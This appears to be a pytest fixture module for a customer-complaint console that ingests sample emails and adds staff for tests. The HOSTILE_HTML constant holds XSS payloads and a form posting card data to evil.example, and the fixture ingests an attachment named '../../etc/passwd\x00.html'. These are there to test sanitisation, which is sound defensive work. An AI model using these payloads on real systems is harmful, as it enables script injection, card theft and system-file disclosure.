"""A console on the ``settings`` database (SQLite and PostgreSQL) with cases and staff."""

from __future__ import annotations

import warnings
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import make_msgid

import pytest

from config.settings import Settings
from console.app import create_app
from pipeline.outbound.send import send_many
from tests.support import mails
from tests.support.console import add_staff
from workers.app import build_runtime
from workers.inline import ingest_bytes
from workers.runtime import Runtime

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

HOSTILE_HTML = (
    "<p>My parcel arrived <b>crushed</b>.</p>"
    "<script>document.title='pwned'</script>"
    "<img src=\"http://tracker.example/pixel.png\" onerror=\"alert(1)\">"
    "<a href=\"javascript:alert(2)\" onclick=\"alert(3)\">click</a>"
    "<form action=\"http://evil.example/steal\"><input name=\"card\"><button>Go</button></form>"
    "<iframe src=\"http://evil.example/\"></iframe>"
    "<style>@import url(http://evil.example/x.css);</style>"
    "<div style=\"background:url(http://evil.example/bg.png)\">Jane</div>"
)


def attachment_mail(filename: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Li Na <lina@customer.example>"
    msg["To"] = "complaints@shop.example"
    msg["Subject"] = "Photos of the scratched table"
    msg["Message-ID"] = make_msgid(domain="customer.example")
    msg.set_content("The table arrived with a deep scratch. Photos attached. Li Na")
    msg.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html",
                       filename=filename)
    return bytes(msg)


@dataclass
class ConsoleWorld:
    runtime: Runtime
    settings: Settings
    handed: list[int] = field(default_factory=list)  # outbox ids the console handed on

    def client(self) -> TestClient:
        app = create_app(self.settings, factory=self.runtime.factory,
                         send_outbound=self._hand_on,
                         make_transport=self.runtime.make_transport)
        return TestClient(app, base_url="http://testserver")

    def _hand_on(self, outbound_ids: Sequence[int]) -> None:
        self.handed.extend(outbound_ids)
        self.runtime.enqueue_outbound_ids(outbound_ids)

    def deliver(self) -> None:
        """Send what the console handed on, as the outbox worker does in production."""
        ids, self.handed[:] = list(self.handed), []
        send_many(self.runtime.factory, outbound_ids=ids,
                  transport=self.runtime.make_transport(), settings=self.settings)


def ingest_two_complaints(runtime: Runtime) -> None:
    """CP-2026-000001, a Chinese kettle complaint; CP-2026-000002, a hostile HTML mail."""
    ingest_bytes(runtime, mails.complaint(
        sender="王伟 <wangwei@customer.example>", subject="快递送来的水壶漏水",
        body="您好，快递昨天送到的电水壶底部漏水，请给我换一个。\n王伟\n"), name="a.eml")
    ingest_bytes(runtime, mails.complaint(
        sender="Jane Smith <jane@customer.example>", subject="Parcel crushed in delivery",
        body=HOSTILE_HTML, html=True), name="b.eml")


@pytest.fixture
def world(settings: Settings) -> Iterator[ConsoleWorld]:
    runtime = build_runtime(settings)
    ingest_two_complaints(runtime)
    ingest_bytes(runtime, attachment_mail("../../etc/passwd\x00.html"), name="c.eml")
    add_staff(runtime.factory, "ivy", "intake")
    add_staff(runtime.factory, "quinn", "handler", "quality")
    add_staff(runtime.factory, "lou", "handler", "logistics")
    add_staff(runtime.factory, "ada", "admin")
    yield ConsoleWorld(runtime, settings)
    runtime.engine.dispose()
